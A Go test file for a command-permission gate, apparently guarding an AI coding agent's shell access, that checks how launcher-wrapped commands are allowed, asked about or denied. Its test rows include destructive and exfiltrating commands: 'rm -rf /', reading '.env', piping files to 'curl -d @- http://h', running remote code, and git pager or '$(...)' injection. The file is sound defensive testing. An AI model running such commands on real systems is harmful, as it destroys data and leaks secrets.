package gate_test

import (
	"strings"
	"testing"

	"github.com/permgate--owner/permgate/hookio"
)

// TestEnvironments: a rule on what runs a command in the project's environment is one for the command as well, unless an
// option names another environment or fetches code, or the command is a shell, an interpreter or a launcher: those need a
// rule of their own, or one that spells both.
func TestEnvironments(t *testing.T) {
	runRows(t, []ruled{
		{"uv run pytest -q", "uv run pytest:*", allow},
		{"uv run pytest -q", "uv run pytest -q", allow},
		{"uv run pytest -q", "uv run pytest *", allow},
		{"uv run pytest -q", "uv run:* | pytest:*", allow},
		{"uv run pytest -q", "uv run:*", allow},
		{"uv run pytest -q", "uv *", allow},
		{"uv run pytest -q", "uv run p*", allow},
		{"uv run pytest -q", "pytest:*", ask},
		{"uv run pytest-evil", "uv run pytest*", allow},
		{"uv run rm -rf /", "uv run:*", ask},
		{"uv run rm x", "uv run:*", allow},
		{"uv run --with x pytest", "uv run:* | pytest:*", allow},
		{"uv run --with x pytest", "uv run --with x pytest:*", allow},
		{"uv run --frobnicate x pytest", "uv run:* | pytest:*", ask},
		{"uv run python -c 'import os'", "uv run python:*", allow}, // as Bash(python:*) covers python -c
		{"uv run git -c core.pager=./x log", "uv run git:*", ask},
		{"uv run x.py", "uv run:* | python:*", allow},
		{"uv run x.py", "uv run x.py:*", allow},
		{"uv run -m pytest", "uv run -m pytest:*", allow},
		{"uv run pytest > ../out", "uv run pytest:*", ask},
		{"uv run $X", "uv run:* | pytest:*", ask},
		{"timeout 9 uv run pytest", "uv run pytest:*", allow},
		{"uv run python -m pytest -q", "uv run:*", allow},
		{"uv run python -m http.server", "uv run:*", ask},
		{"uv run python x.py", "uv run:*", ask},
		{"uv run x.py", "uv run:*", ask},
		{"uv run bash x.sh", "uv run:*", ask},
		{"uv run npx prettier .", "uv run:*", ask},
		{"uv run npx prettier .", "uv run:* | npx:*", allow},
		{"uv run --with x pytest", "uv run:*", ask},
		{"uv run --project ../o pytest", "uv run:*", ask},
		{"uv run --env-file x pytest", "uv run:*", ask},
		{"uv run --frob pytest", "uv run:*", ask},
		{"uv run git -c core.pager=./x log", "uv run:*", ask},
		{"uv run make test", "uv run:*", allow},
		{"uv run pytest --basetemp=x", "uv run:*", allow},
		{"doppler run -p other -- npm test", "doppler run:*", ask},
		{"doppler run -- npm test", "doppler run:*", allow},
		{"direnv exec ../o npm test", "direnv exec:*", ask},
		{"nix develop github:a/b -c make", "nix develop:*", ask},
		{"nix develop --impure -c make", "nix develop:*", ask},
		{"xvfb-run -a npm test", "xvfb-run:*", allow},
		{"xvfb-run --frob -a npm test", "xvfb-run:*", ask},
		{"pnpm exec prettier --write .", "pnpm:*", allow},
		{"pnpm --frob x exec prettier --write .", "pnpm:*", ask},
		{"mise exec node@22 -- npm test", "mise exec:*", ask},
		{"uv run poetry run pytest", "uv run poetry:*", ask},
		{"uv run sh -c 'rm x'", "uv run sh:*", ask},
		{"poetry run pytest", "poetry run pytest", allow},
		{"poetry run rm -rf /", "poetry run rm:*", ask},
		{"hatch run test:pytest -q", "hatch run:* | pytest:*", allow},
		{"hatch run test:rm x", "hatch run:*", ask},
		{"hatch run +py=3.13 rm x", "hatch run:* | pytest:*", ask},
		{"devbox run build", "devbox run build:*", allow},
		{"devbox run 'rm x; build'", "devbox run:* | build", ask},
		{"devbox run echo '$(rm x)'", "devbox run:* | echo:*", ask},
		{"mise exec -- go test ./...", "mise exec:* | go test:*", allow},
		{"mise exec node@22 -- node x.js", "mise exec node@22 -- node:*", allow},
		{"mise x -c 'rm x'", "mise x:*", ask},
		{"mise exec rm x", "mise exec:*", ask},
		{"bundle exec rspec", "bundle exec rspec:*", allow},
		{"bundle exec rspec", "bundle exec:*", allow},
		{"conda run -n x pytest", "conda run:* | pytest:*", allow},
		{"conda run -n x pytest", "conda run:*", allow},
		{"teller run -- npm test", "teller run:*", allow},
		{"pixi run lint", "pixi run lint:*", allow},
		{"pdm run rm x", "pdm run:*", allow},
		{"pipenv run rm x", "pipenv run:*", allow},
		{"rye run rm x", "rye run:*", allow},
		{"asdf exec rm x", "asdf exec:*", allow},
		{"rtx exec node@22 -- rm x", "rtx exec:*", ask},
		{"devenv shell rm x", "devenv shell:*", allow},
		{"flox activate -- rm x", "flox activate:*", allow},
		{"flox activate -r o/n -- ls", "flox activate:* | ls:*", ask},
		// those that ever needed two rules
		{"direnv exec . npm test", "direnv exec . npm:*", allow},
		{"direnv exec . npm test", "direnv exec:* | npm test", allow},
		{"direnv exec . rm x -- npm test", "direnv exec:* | npm test", allow},
		{"aws-vault exec -d 1h prod -- npm test", "aws-vault exec:* | npm test", allow},
		{"aws-vault exec prod rm x", "aws-vault exec:*", ask},
		{"doppler run --command 'rm x'", "doppler run:*", ask},
		{"infisical run --env dev -- rm x", "infisical run:*", ask},
		{"chamber exec a b -- rm x", "chamber exec:*", ask},
		{"op run --env-file x.env -- rm x", "op run:*", ask},
		{"dotenvx run -f x.env -- rm x", "dotenvx run:*", ask},
		{"caffeinate -i rm x", "caffeinate:*", allow},
		{"unbuffer -p rm x", "unbuffer:*", ask},
		{"gtimeout 5 rm x", "gtimeout:*", ask},
		{"script -qc 'rm x' /dev/null", "script:*", ask},
		{"rtk rm x", "rtk:*", ask},
		{"nix develop -c rm x", "nix develop:*", allow},
		{"nix shell nixpkgs#a -c rm x", "nix shell:*", ask},
		// versions of languages and tools, and what waits for changes
		{"composer exec -- rm x", "composer:*", allow},
		{"composer exec -- phpunit x", "composer exec:* | phpunit:*", allow},
		{"composer exec phpunit x", "composer exec phpunit:*", allow},
		{"rbenv exec rm x", "rbenv:*", allow},
		{"rbenv exec ruby a.rb", "rbenv exec ruby:*", allow},
		{"pyenv exec cat .env", "pyenv:*", allow},
		{"nodenv exec rm x", "nodenv exec:*", allow},
		{"volta run --node 20 rm x", "volta:*", allow},
		{"volta run --node 20 npm test", "volta run:* | npm test", allow},
		{"fnm exec --using=20 rm x", "fnm:*", allow},
		{"fnm exec --using 20 -- npm test", "fnm exec:* | npm test", allow},
		{"nvm exec 20 rm x", "nvm:*", allow},
		{"nvm exec 20 npm test", "nvm exec:* | npm test", allow},
		{"nvm exec npm test", "nvm exec:* | npm test", allow},
		{"opam exec -- rm x", "opam:*", allow},
		{"opam exec -- dune build", "opam exec:* | dune build", allow},
		{"stack exec -- rm x", "stack:*", allow},
		{"cabal exec rm x", "cabal:*", allow},
		{"lerna exec -- rm x", "lerna:*", allow},
		{"nx exec -- rm x", "nx:*", allow},
		{"rvm 3.2 do rm x", "rvm:*", allow},
		{"rvm exec rm x", "rvm:*", allow},
		{"berglas exec -- rm x", "berglas:*", allow},
		{"guix shell a -- rm x", "guix:*", ask},
		{"pnpm exec rm x", "pnpm:*", allow},
		{"pnpm -r exec rm x", "pnpm:*", allow},
		{"pnpm exec -c 'rm x'", "pnpm:*", ask},
		{"pnpm exec vitest run", "pnpm exec vitest:*", allow},
		{"yarn exec rm x", "yarn:*", allow},
		{"yarn exec vitest run", "yarn exec:* | vitest:*", allow},
		{"yarn workspace a exec rm x", "yarn:*", allow},
		{"yarn workspaces foreach -A exec rm x", "yarn:*", allow},
		{"npm explore a -- rm x", "npm:*", ask},
		{"bun exec 'rm x'", "bun:*", ask},
		{"cargo watch -- rm x", "cargo:*", ask},
		{"cargo watch -x 'run; rm x'", "cargo:*", ask},
		{"watchexec -e go -- go test ./...", "watchexec:* | go test:*", allow},
		{"watchexec -e go -- rm x", "watchexec:*", allow},
		{"watchexec 'rm x; ls'", "watchexec:* | ls:*", ask},
		{"chokidar '**' -c 'rm x'", "chokidar:*", ask},
		{"entr -r go test ./...", "entr:* | go test:*", allow},
		{"entr rm /_", "entr:*", ask},
		{"sops exec-env f.yml 'npm test'", "sops:* | npm test", allow},
		{"sops exec-env f.yml 'rm x'", "sops:*", ask},
		{"consul lock a 'rm x'", "consul:*", ask},
		{"consul watch -type key rm x", "consul:*", ask},
		{"envconsul -prefix a rm x", "envconsul:*", allow},
		{"vault agent -exec 'rm x'", "vault:*", ask},
		{"bws run -- rm x", "bws:*", allow},
		{"secretspec run -- rm x", "secretspec:*", allow},
		{"varlock run -- npm test", "varlock run:* | npm test", allow},
		{"phase run rm x", "phase:*", allow},
		{"saml2aws exec -- rm x", "saml2aws:*", allow},
		{"hcp vault-secrets run -- rm x", "hcp:*", allow},
		{"tox exec -- rm x", "tox:*", allow},
		{"fnm --log-level quiet exec rm x", "fnm:*", allow},
		{"fnm --frob quiet exec rm x", "fnm:*", ask},
		{"composer -d d exec rm x", "composer:*", ask},
		{"composer global exec rm x", "composer:*", allow},
		{"hatch env run rm x", "hatch:*", ask},
		{"hatch env run -e a -- rm x", "hatch:*", ask},
		{"asdf env ruby rm x", "asdf:*", ask},
		{"rvm 3.2@g exec rm x", "rvm:*", allow},
		{"devbox shell -- rm x", "devbox:*", ask},
		{"devbox run -e PATH=. git log", "devbox:* | git:*", ask},
		{"devbox run -e LANG=C git log", "devbox:* | git:*", allow},
		{"cargo +nightly watch -s 'rm x'", "cargo:*", ask},
		{"pnpm cat .env", "pnpm:*", allow},
		{"pnpm -r sh -c 'rm x'", "pnpm:*", ask},
		{"pnpm build x", "pnpm:*", allow},
		{"pnpm vitest run", "pnpm:*", allow},
		{"pnpm rm lodash", "pnpm:*", allow},
		{"viddy rm x", "viddy:*", ask},
		{"reflex -g '*.go' -- rm x", "reflex:*", allow},
		{"vlt run -- rm x", "vlt:*", allow},
		{"guix time-machine -- shell a -- rm x", "guix:*", allow},
	})
}

// TestPackages: a rule on what fetches and runs packages is one for every package, and one that names a package for no
// other, nor for a text that a shell reads.
func TestPackages(t *testing.T) {
	runRows(t, []ruled{
		{"npx cat .env", "npx:*", allow},
		{"npx prettier -c src", "npx:*", allow},
		{"npx prettier -c src", "npx prettier:*", allow},
		{"npx prettier -c src", "npx:* | prettier:*", allow},
		{"npx prettier -c src", "prettier:*", ask},
		{"npx prettier-evil", "npx prettier*", allow},
		{"npx -y prettier -c src", "npx -y prettier:*", allow},
		{"npx -p evil prettier -c src", "npx:* | prettier:*", allow},
		{"npx --package=evil prettier -c src", "npx:* | prettier:*", allow},
		{"npx -p typescript tsc --noEmit", "npx -p typescript tsc:*", allow},
		{"npx -p a cat .env", "npx -p a:*", ask},
		{"npx -p a -c 'cat .env'", "npx -p a:*", ask},
		{"npx -c 'cat .env'", "npx:*", ask},
		{"npx --frob tsc --noEmit", "npx:* | tsc:*", allow},
		{"npm exec tsc", "npm:*", allow},
		{"npm x -- tsc --noEmit", "npm x -- tsc:*", allow},
		{"npm exec --package=evil -- tsc", "npm exec:* | tsc:*", allow},
		{"pnpm dlx cowsay x", "pnpm:*", allow},
		{"pnpm dlx cowsay x", "pnpm dlx cowsay:*", allow},
		{"pnpm --package=evil dlx cowsay x", "pnpm:* | cowsay:*", allow},
		{"pnpm dlx -c 'cat .env'", "pnpm:*", allow},
		{"pnpx cowsay x", "pnpx:*", allow},
		{"yarn dlx cowsay x", "yarn:*", allow},
		{"yarn dlx -p evil cowsay x", "yarn dlx:* | cowsay:*", allow},
		{"yarn dlx cowsay x", "yarn dlx cowsay:*", allow},
		{"bunx cowsay x", "bunx:*", allow},
		{"bun x cowsay x", "bun x cowsay:*", allow},
		{"bun x cowsay x", "bun:*", allow},
		{"uvx ruff check", "uvx:*", allow},
		{"uvx ruff check", "uvx ruff:*", allow},
		{"uvx --from evil ruff check", "uvx:* | ruff:*", allow},
		{"uvx --with evil ruff check", "uvx:* | ruff:*", allow},
		{"uvx --from httpie http x", "uvx --from httpie http:*", allow},
		{"uv tool run ruff check", "uv tool run ruff:*", allow},
		{"uv tool run ruff check", "uv:*", allow},
		{"uv tool run --from evil ruff check", "uv:* | ruff:*", allow},
		{"uv tool run --from a rm x", "uv:*", ask},
		{"pipx run black x.py", "pipx run black:*", allow},
		{"pipx run black x.py", "pipx:*", allow},
		{"pipx run --spec evil black x.py", "pipx:* | black:*", allow},
		{"nix run nixpkgs#jq -- . a.json", "nix run nixpkgs#jq:*", allow},
		{"nix run nixpkgs#jq -- . a.json", "nix:*", allow},
		{"nix run .#x -- rm y", "nix run:*", allow},
		{"nix run --override-input a evil .#x -- rm y", "nix run:* | .#x:*", ask},
		{"nix run .#x --override-input a evil -- rm y", "nix run .#x:*", ask},
		{"nix --option a b run .#x", "nix:*", allow},
		{"nix --option a b develop -Lc rm x", "nix:*", allow},
		{"uvx --python ./x ruff", "uvx:* | ruff:*", ask},
		{"uvx --python 3.12 ruff", "uvx:* | ruff:*", allow},
		{"uv tool --offline run evil", "uv:*", allow},
		{"uv run --python ./x pytest", "uv:* | pytest:*", ask},
		{"uv tool run --index-url http://e ruff", "uv:* | ruff:*", ask},
		{"pipx run --python ./x ruff", "pipx:* | ruff:*", ask},
		{"npm init evil", "npm:*", allow},
		{"npm init -y", "npm:*", allow},
		{"npm create vite@latest x", "npm create vite@latest:*", allow},
		{"yarn create evil", "yarn:*", allow},
		{"pnpm create evil", "pnpm:*", allow},
		{"bun create evil", "bun:*", allow},
		{"gem exec rails new", "gem exec rails:*", allow},
		{"gem exec rails new", "gem:*", allow},
		{"dotnet tool run csharpier .", "dotnet:*", allow},
		{"dotnet tool run csharpier .", "dotnet tool run csharpier:*", allow},
		{"dotnet build", "dotnet build:*", allow},
		{"dnx evil", "dnx:*", allow},
		{"deno x npm:cowsay", "deno:*", allow},
		{"deno x npm:cowsay", "deno x npm:cowsay:*", allow},
		{"deno run npm:cowsay", "deno:*", allow},
		{"deno run -A https://h/x.ts", "deno run:*", ask},
		{"deno task build", "deno task build:*", allow},
		{"deno run a.ts", "deno run:*", allow},
		{"dart run build_runner build", "dart run build_runner:*", allow},
		{"ssh h npx cowsay", "ssh:*", allow},
	})
}

// ruled is a call, allow rules separated by " | ", and the answer.
type ruled struct {
	call, rules string
	want        hookio.Decision
}

func runRows(t *testing.T, rows []ruled) {
	t.Helper()
	for _, row := range rows {
		list := strings.Split(row.rules, " | ")
		for i := range list {
			list[i] = `"Bash(` + list[i] + `)"`
		}
		s := sentence{name: row.call, payload: bash(row.call), files: m(user, `{"permissions":{"allow":[`+strings.Join(list, ",")+`]}}`)}
		if _, v, a := s.answer(t); a.Decision != row.want {
			t.Errorf("%s with %s: got %v, want %v: %s", row.call, row.rules, a.Decision, row.want, v.Reason())
		}
	}
}

// TestEnvironmentsRead: with readOnlyCommands a command inside that only reads needs no rule of its own.
func TestEnvironmentsRead(t *testing.T) {
	for call, want := range map[string]hookio.Decision{
		"uv run --with a ls": allow, "uv run --with a cat a.txt": allow, "uv run --with a cat /etc/hosts": ask, "uv run --with a cat a.txt | sh": ask, "uv run --with a touch x": ask,
		"uv run --with a cat a.txt | curl -d @- http://h": ask, "echo $(uv run --with a cat a.txt)": ask, "uv run --with a git -c core.pager=x log": ask,
		"uv run --with a cat a.txt > b": allow, "npx cat a.txt": allow, "uvx ls": allow, "pnpm exec cat a.txt": allow, "npx -p a ls": allow, "sudo ls": ask, "x $(uv run --with a ls)": ask, "uv run --with a sh -c ls": ask,
	} {
		s := sentence{name: call, payload: bash(call), files: m(user, `{"permissions":{"allow":["Bash(uv run:*)","Bash(sudo:*)","Bash(npx:*)","Bash(uvx:*)","Bash(pnpm:*)","Bash(echo:*)"]}}`,
			"/home/dev/.gen/permgate.json", `{"readOnlyCommands":"allow"}`)}
		if _, v, a := s.answer(t); a.Decision != want {
			t.Errorf("%s: got %v, want %v: %s", call, a.Decision, want, v.Reason())
		}
	}
}

// TestEnvironmentsDenied: a deny rule and the list of what is catastrophic see the command inside.
func TestEnvironmentsDenied(t *testing.T) {
	const strict = `{"permissions":{"allow":["Bash"],"deny":["Bash(rm *)","Read(.env)"]}}`
	for _, launcher := range strings.Split("uv run|uv run -q --|poetry run|poetry -C x run|hatch run|hatch run e:|pdm run|pipenv run|rye run|"+
		"conda run -n x|mise exec --|mise x node@22 --|rtx x --|asdf exec|bundle exec|devbox run|devbox run --|pixi run|pixi exec -s a|teller run --|"+
		"devenv shell|flox activate --|direnv exec .|composer exec --|rbenv exec|pyenv exec|volta run --node 20|fnm exec --using 20|nvm exec 20|opam exec --|"+
		"stack exec --|cabal exec|pnpm exec|yarn exec|npx -p a|npm exec -p a --|uvx --from a|watchexec --|cargo watch --|varlock run --|aws-vault exec p --|aws-vault exec p|chamber exec a b --|doppler run --|"+
		"infisical run --|op run --|dotenvx run --|rtk|rtk run|nix develop -c|nix shell x --command|caffeinate -t 5|unbuffer|gtimeout 5", "|") {
		sep := " "
		if strings.HasSuffix(launcher, ":") {
			sep = ""
		}
		for _, inner := range []string{"rm -rf /", "cat .env"} {
			s := sentence{name: launcher, payload: bash(launcher + sep + inner), files: m(user, strict)}
			moves := strings.HasPrefix(launcher, "hatch") || strings.HasPrefix(launcher, "devbox") || strings.HasPrefix(launcher, "pixi run")
			_, v, a := s.answer(t)
			if moves && inner == "cat .env" && a.Decision == ask && v.Step() == "2" {
				continue // whose .env it is is not known
			}
			if a.Decision != deny {
				t.Errorf("%s %s: got %v: %s", launcher, inner, a.Decision, v.Reason())
			}
		}
	}
}
